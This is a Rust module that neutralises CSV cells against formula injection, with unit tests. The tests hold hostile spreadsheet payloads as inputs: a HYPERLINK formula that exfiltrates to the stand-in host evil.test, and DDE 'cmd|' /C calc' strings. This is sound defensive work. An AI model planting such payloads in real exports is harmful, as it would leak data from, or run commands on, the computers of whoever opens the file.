//! The one way exports write CSV: every cell passes [`neutralise`] first,
//! so a value, a filename or a field path a tenant typed cannot become a
//! spreadsheet formula (CSV injection). Every CSV format, today's and the
//! ones to come, writes through [`CsvWriter`].

use std::borrow::Cow;

use crate::error::{ServiceError, ServiceResult};

/// A cell as a spreadsheet may safely open it, as OWASP recommends for
/// CSV injection: a cell starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return gets a leading `'`, which spreadsheets read as "text,
/// not a formula" and hide. A cell that is a plain number (`-1.5`,
/// `+3`, `-2e-3`) is left as it is: it stays a number, and a number runs
/// nothing.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A decimal number, optionally signed, with an optional exponent; no
/// spaces, no hex, no `inf`/`NaN`.
fn is_number(s: &str) -> bool {
    let body = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (mantissa, exponent) = match body.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e)),
        None => (body, None),
    };
    let digits = |p: &str| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit());
    let mantissa_ok = match mantissa.split_once('.') {
        Some((int, frac)) => {
            (digits(int) && (frac.is_empty() || digits(frac))) || (int.is_empty() && digits(frac))
        }
        None => digits(mantissa),
    };
    let exponent_ok = exponent.is_none_or(|e| digits(e.strip_prefix(['+', '-']).unwrap_or(e)));
    mantissa_ok && exponent_ok
}

/// A CSV document in memory whose cells are all [`neutralise`]d.
pub struct CsvWriter {
    inner: csv::Writer<Vec<u8>>,
}

impl Default for CsvWriter {
    fn default() -> Self {
        Self {
            inner: csv::Writer::from_writer(Vec::new()),
        }
    }
}

impl CsvWriter {
    /// Writes one row.
    pub fn row<I, S>(&mut self, cells: I) -> ServiceResult<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.inner
            .write_record(
                cells
                    .into_iter()
                    .map(|c| neutralise(c.as_ref()).into_owned()),
            )
            .map_err(internal)
    }

    /// The document's bytes.
    pub fn finish(self) -> ServiceResult<Vec<u8>> {
        self.inner
            .into_inner()
            .map_err(|e| internal(anyhow::anyhow!("{e}")))
    }
}

fn internal(e: impl Into<anyhow::Error>) -> ServiceError {
    ServiceError::Internal(e.into())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_numbers_kept() {
        for (raw, out) in [
            (
                "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")",
                "'=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            (
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "'@SUM(1+1)*cmd|' /C calc'!A0",
            ),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("-", "'-"),
            ("-inf", "'-inf"),
            ("-0x1A", "'-0x1A"),
            ("- 1", "'- 1"),
            // Numbers stay numbers.
            ("-1.5", "-1.5"),
            ("+3", "+3"),
            ("-2e-3", "-2e-3"),
            ("-.5", "-.5"),
            ("-5.", "-5."),
            // Anything else is left alone.
            ("placebo", "placebo"),
            ("a=b", "a=b"),
            ("120", "120"),
            ("", ""),
        ] {
            assert_eq!(neutralise(raw), out, "{raw:?}");
        }
    }

    #[test]
    fn the_writer_neutralises_every_cell() {
        let mut w = CsvWriter::default();
        w.row(["=1+1", "-1.5", "ok"]).expect("row");
        let text = String::from_utf8(w.finish().expect("bytes")).expect("utf-8");
        assert_eq!(text, "'=1+1,-1.5,ok\n");
    }
}
